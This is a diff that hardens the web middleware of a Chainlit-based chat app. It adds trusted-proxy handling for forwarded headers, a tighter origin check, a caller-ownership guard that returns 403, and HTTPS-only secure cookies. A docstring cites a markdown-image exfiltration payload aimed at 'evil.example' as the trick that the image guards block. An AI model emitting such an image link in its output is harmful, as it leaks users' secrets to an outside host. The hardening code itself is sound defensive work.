@@ -8,6 +8,9 @@
   the web fonts and KaTeX styles Chainlit would load from CDNs, so the page makes no outside
   request at all.
 - :class:`SecureCookies` (ASGI) marks cookies ``Secure`` on HTTPS.
+- :class:`CallerGuard` (ASGI) names the logged-in caller of every HTTP request for the data
+  layer's ownership checks (:mod:`chorus.store.caller`), and answers 403 to a request whose
+  write the data layer refused, whatever the route would have said.
 - :func:`neutralise_images` and :class:`ImageGuard` stop model output from embedding images:
   in the widget the host site's page decides the CSP, so a markdown image pointing elsewhere
   (``![x](https://evil.example/?secret=...)``, a known exfiltration trick) must never reach the
@@ -19,6 +22,8 @@ from __future__ import annotations
 import base64
 import gzip
 import hashlib
+import ipaddress
+import json
 import re
 from collections.abc import Awaitable, Callable, Iterable, MutableMapping
 from typing import Any
@@ -51,8 +56,52 @@ def _header(scope: Scope, name: bytes) -> str | None:
     return None
 
 
+Network = ipaddress.IPv4Network | ipaddress.IPv6Network
+PROXIED = "chorus.trusted_proxy"  # set in the ASGI scope of a request that came through a trusted proxy
+
+
+def from_trusted_proxy(scope: Scope, proxies: Iterable[Network]) -> bool:
+    """Whether the request came straight from one of the operator's reverse proxies."""
+    client = scope.get("client")
+    if not client:
+        return False
+    try:
+        address = ipaddress.ip_address(str(client[0]))
+    except ValueError:
+        return False
+    if isinstance(address, ipaddress.IPv6Address) and address.ipv4_mapped is not None:
+        address = address.ipv4_mapped  # ::ffff:10.0.0.5 from a server bound to ::
+    return any(address in network for network in proxies)
+
+
+class TrustedProxies:
+    """Believes ``X-Forwarded-For``, ``-Proto`` and ``-Host`` only from ``CHORUS_TRUSTED_PROXIES``:
+    anyone can send those headers. Outermost; with it on, uvicorn's own proxy handling is off
+    (``FORWARDED_ALLOW_IPS`` empty), so the address of the peer is still known here. Without it,
+    uvicorn believes ``X-Forwarded-For``/``-Proto`` from loopback (its default) and nobody's
+    ``X-Forwarded-Host``."""
+
+    def __init__(self, app: ASGIApp, proxies: Iterable[Network]) -> None:
+        from uvicorn.middleware.proxy_headers import ProxyHeadersMiddleware
+
+        self.app = app
+        self.proxies = list(proxies)
+        self.forwarded = ProxyHeadersMiddleware(app, trusted_hosts=[str(n) for n in self.proxies])  # type: ignore[arg-type]
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        if scope["type"] in ("http", "websocket") and from_trusted_proxy(scope, self.proxies):
+            scope[PROXIED] = True
+            await self.forwarded(scope, receive, send)  # type: ignore[arg-type]
+            return
+        await self.app(scope, receive, send)
+
+
 class OriginGuard:
-    """Refuses cross-origin requests and socket handshakes from origins not on the list."""
+    """Refuses cross-origin requests and socket handshakes from origins not on the list.
+
+    The page's own origin is the request's ``Host``; ``X-Forwarded-Host`` counts only from a
+    trusted proxy (:class:`TrustedProxies`).
+    """
 
     def __init__(self, app: ASGIApp, allowed: Iterable[str]) -> None:
         self.app = app
@@ -70,7 +119,8 @@ class OriginGuard:
     async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
         if scope["type"] in ("http", "websocket"):
             origin = _header(scope, b"origin")
-            hosts = (_header(scope, b"host"), _header(scope, b"x-forwarded-host"))
+            forwarded = _header(scope, b"x-forwarded-host") if scope.get(PROXIED) else None
+            hosts = (_header(scope, b"host"), forwarded)
             if origin is not None and not self.allows(origin, hosts):
                 if scope["type"] == "websocket":
                     await send({"type": "websocket.close", "code": 1008, "reason": "origin not allowed"})
@@ -170,15 +220,91 @@ class PageHardening:
         await self.app(scope, receive, capture)
 
 
-class SecureCookies:
-    """Marks every cookie ``Secure`` when the request came over HTTPS (directly, or through a
-    proxy that says so with ``X-Forwarded-Proto``): Chainlit only does for ``SameSite=None``."""
+def request_token(scope: Scope) -> str | None:
+    """The login token an HTTP request carries: Chainlit's auth cookie, else a bearer token."""
+    from chainlit.auth.cookie import get_token_from_cookies
+    from starlette.requests import cookie_parser
+
+    cookie = _header(scope, b"cookie")
+    if cookie:
+        token = get_token_from_cookies(cookie_parser(cookie))
+        if token:
+            return str(token)
+    scheme, _, value = (_header(scope, b"authorization") or "").partition(" ")
+    if scheme.lower() != "bearer":
+        return None
+    return value.strip() or None
+
+
+def token_identifier(token: str | None) -> str | None:
+    """The user a valid login token names (None for a missing, forged or expired one)."""
+    if not token:
+        return None
+    try:
+        from chainlit.auth.jwt import decode_jwt
+
+        return str(decode_jwt(token).identifier)
+    except Exception:
+        return None
+
+
+class CallerGuard:
+    """Every HTTP request's logged-in caller, for the data layer; a refused write answers 403.
+
+    The socket's own HTTP transport is left alone: its events run in the Chainlit session of
+    the socket, whose user the data layer reads instead.
+    """
 
     def __init__(self, app: ASGIApp) -> None:
         self.app = app
 
     async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
-        https = scope.get("scheme") == "https" or (_header(scope, b"x-forwarded-proto") or "").lower() == "https"
+        if scope["type"] != "http" or str(scope.get("path", "")).startswith("/ws/"):
+            await self.app(scope, receive, send)
+            return
+        from chorus.store.caller import begin_request
+
+        caller = begin_request(token_identifier(request_token(scope)))
+        started = answered = False
+
+        async def refuse() -> None:
+            nonlocal answered
+            answered = True
+            body = json.dumps({"detail": f"Not yours: {caller.refused}."}).encode()
+            await send({"type": "http.response.start", "status": 403,
+                        "headers": [(b"content-type", b"application/json"),
+                                    (b"content-length", str(len(body)).encode())]})
+            await send({"type": "http.response.body", "body": body})
+
+        async def guarded(message: Message) -> None:
+            nonlocal started
+            if answered:
+                return  # the route's own answer to a refused write is replaced, not appended
+            if message["type"] == "http.response.start":
+                if caller.refused:
+                    await refuse()
+                    return
+                started = True
+            await send(message)
+
+        try:
+            await self.app(scope, receive, guarded)
+        except Exception:
+            if not caller.refused or started or answered:
+                raise
+            await refuse()  # the route let the refusal escape: a 403, not a 500
+
+
+class SecureCookies:
+    """Marks every cookie ``Secure`` when the request came over HTTPS (directly, or through a
+    trusted proxy that said so, which uvicorn or :class:`TrustedProxies` turned into the scope's
+    scheme): Chainlit only does for ``SameSite=None``."""
+
+    def __init__(self, app: ASGIApp) -> None:
+        self.app = app
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        https = scope.get("scheme") == "https"
         if scope["type"] != "http" or not https:
             await self.app(scope, receive, send)
             return
